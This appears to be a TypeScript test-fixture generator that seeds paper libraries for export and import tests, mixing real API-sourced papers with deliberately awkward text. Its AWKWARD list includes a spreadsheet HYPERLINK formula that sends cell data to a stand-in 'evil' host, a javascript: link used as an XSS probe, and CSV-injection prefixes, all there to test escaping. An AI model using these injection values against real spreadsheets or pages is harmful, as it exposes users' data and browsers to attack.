// Seeded libraries for the export/import tests: real papers from a saved Daily Papers API answer
// (tests/fixtures/api_daily_papers_2026-05-08.json), dressed up with awkward text, plus made-up ones.
import type { PaperRow, SeenRow } from '@/lib/db';
import { READING_STATUSES } from '@/lib/db/types';
import { paperUrl } from '@/lib/hf/urls';
import { safeHttpsUrl } from '@/lib/links/code-links';
import { fixtureText } from './fixtures';
import { Rng } from './gen';

interface ApiPaper {
  paper: {
    id: string;
    title: string;
    summary: string;
    publishedAt: string;
    authors: { name: string }[];
    githubRepo?: string;
    githubStars?: number;
    upvotes?: number;
    ai_keywords?: string[];
  };
}

/** The 37 papers of one real day, as stored rows (no user state). */
export function realPapers(): PaperRow[] {
  const items = JSON.parse(fixtureText('api_daily_papers_2026-05-08.json')) as ApiPaper[];
  return items.map(({ paper: p }, i) => {
    const row: PaperRow = {
      id: p.id,
      title: p.title,
      authors: p.authors.map((a) => a.name),
      abstract: p.summary,
      publishedAt: p.publishedAt,
      url: paperUrl(p.id),
      tags: (p.ai_keywords ?? []).filter((k) => k.length <= 80).slice(0, 20),
      updatedAt: 1_777_000_000_000 + i,
    };
    const code = safeHttpsUrl(p.githubRepo);
    if (code) row.codeUrl = code;
    if (typeof p.githubStars === 'number') row.codeStars = p.githubStars;
    if (typeof p.upvotes === 'number') row.upvotes = p.upvotes;
    return row;
  });
}

/** Text that breaks naive exporters: LaTeX, CSV, Markdown and spreadsheet specials, Unicode, RTL. */
export const AWKWARD: readonly string[] = [
  'Quotes "double", \'single\' and “curly” ‘ones’',
  'Braces {a} and }{ unbalanced {',
  'LaTeX specials & % $ # _ ~ ^ \\ | < >',
  'A^2TGPO: 50% of $x_1$ costs #1 & more',
  'Back\\slash \\textbf{bold} \\\\ \\n and C:\\path\\file',
  'Line\nbreak, tab\tand CRLF\r\nhere',
  'Ünïcødé naïve café — Ærøskøbing Łódź ß 東京 😀',
  'RTL שלום עולם العربية and \u202Eoverride\u202C',
  'Markdown [link](javascript:alert(1)) *bold* _it_ `tick` <b>x</b> ![img](x)',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  '+SUM(A1:A9)',
  '-2+3',
  '@cmd',
  "'=already quoted",
  'Ligatures -- en --- em ``quoted\'\' ,,low,, <<guil>> ?` !`',
  'Comma, separated; semicolons; and "quotes"',
  'others',
  'Smith, John',
  'Tom and Jerry',
  '~tilde~ ^caret^ &amp; &lt;tag&gt;',
  '  spaced   out  ',
  'http://plain.example/link and https://x.example',
  '# heading? | table | ~~strike~~ $$math$$',
];

const NAMES = ['Jinsen Su', 'Yann LeCun', 'Ça Ünal', 'Jan van der Berg', 'Li Wei', 'José María Aznar-López', "Conan O'Brien", 'J. R. R. Tolkien', 'Zoë Ødegård', 'محمد علي', 'Consonnm'];
const TAGS = ['LLM', 'Diffusion', 'reinforcement learning', 'RL', 'agents', 'multi-hop QA', 'text_to_image', 'C++', '100%', 'a & b', 'x{y}', 'sub, tag', 'Ünïcødé', 'עברית'];
const CODE_URLS = ['https://github.com/MAC-AutoML/OmniScope', 'https://gitlab.com/group/sub/project', 'https://codeberg.org/a/b', 'https://github.com/x/y'];
const PROJECT_URLS = ['https://example.org/', 'https://omniscope.github.io/project?x=1&y=2#top', 'https://example.com/a%20b/(paren)', 'https://sub.example.net/p/q'];

for (const u of [...CODE_URLS, ...PROJECT_URLS]) {
  if (safeHttpsUrl(u) !== u) throw new Error(`not canonical: ${u}`);
}

/** A plausible new-style id: YYMM.NNNNN from 2015 on, YYMM.NNNN before. */
export function genId(r: Rng): string {
  if (r.bool(0.2)) {
    const yy = r.range(7, 14);
    const mm = yy === 7 ? r.range(4, 12) : r.range(1, 12);
    return `${String(yy).padStart(2, '0')}${String(mm).padStart(2, '0')}.${String(r.range(1, 9999)).padStart(4, '0')}`;
  }
  return `${r.range(15, 26)}${String(r.range(1, 12)).padStart(2, '0')}.${String(r.range(1, 29999)).padStart(5, '0')}`;
}

function text(r: Rng, real: string): string {
  return r.bool(0.5) ? r.pick(AWKWARD) + ' ' + real : real;
}

/**
 * A library of `count` papers with distinct ids: real papers first, then made-up ones. `full`:
 * every optional field set (the round-trip case); else each one present or not at random.
 */
export function genLibrary(r: Rng, count: number, full = true): PaperRow[] {
  const real = realPapers();
  const ids = new Set<string>();
  const out: PaperRow[] = [];
  for (let i = 0; i < count; i++) {
    const base = real[i % real.length];
    let id = i < real.length ? base.id : genId(r);
    while (ids.has(id)) id = genId(r);
    ids.add(id);
    const has = () => full || r.bool(0.6);
    const authors = r.bool(0.3) ? r.shuffle([...NAMES]).slice(0, r.range(1, 5)) : base.authors.map((a) => (r.bool(0.1) ? r.pick(AWKWARD).slice(0, 300) : a));
    const row: PaperRow = {
      id,
      title: text(r, base.title).slice(0, 1000),
      authors: r.bool(0.05) ? [] : authors,
      url: paperUrl(id),
      tags: r.bool(0.5) ? r.shuffle([...TAGS]).slice(0, r.range(0, 6)) : [...base.tags],
      updatedAt: 1_700_000_000_000 + r.int(100_000_000),
    };
    if (has()) row.abstract = text(r, base.abstract ?? 'An abstract.').slice(0, 20_000);
    if (has()) row.publishedAt = `20${id.slice(0, 2)}-${id.slice(2, 4)}-${String(r.range(1, 28)).padStart(2, '0')}T00:00:00.000Z`;
    if (has()) row.codeUrl = r.pick(CODE_URLS);
    if (has()) row.codeStars = r.int(50_000);
    if (has()) row.projectUrl = r.pick(PROJECT_URLS);
    if (has()) row.upvotes = r.int(500);
    if (has()) row.manualTags = r.shuffle([...TAGS, 'to skim', '=formula']).slice(0, r.range(1, 4));
    if (has()) row.notes = r.pick(['# My notes\n\n- point *one*\n- point `two`\n\n> quote', r.pick(AWKWARD), 'Read §3.\r\nThen [the code](https://github.com/x/y).']);
    if (has()) row.status = r.pick(READING_STATUSES);
    if (has()) row.starredAt = row.updatedAt - r.int(1_000_000);
    if (has()) row.hiddenAt = row.updatedAt - r.int(1_000_000);
    out.push(row);
  }
  return out;
}

export function genSeen(r: Rng, papers: readonly PaperRow[], extra = 20): SeenRow[] {
  const ids = new Set(papers.map((p) => p.id));
  while (ids.size < papers.length + extra) ids.add(genId(r));
  return [...ids].map((id) => ({ id, firstSeen: 1_600_000_000_000 + r.int(1e9) }));
}
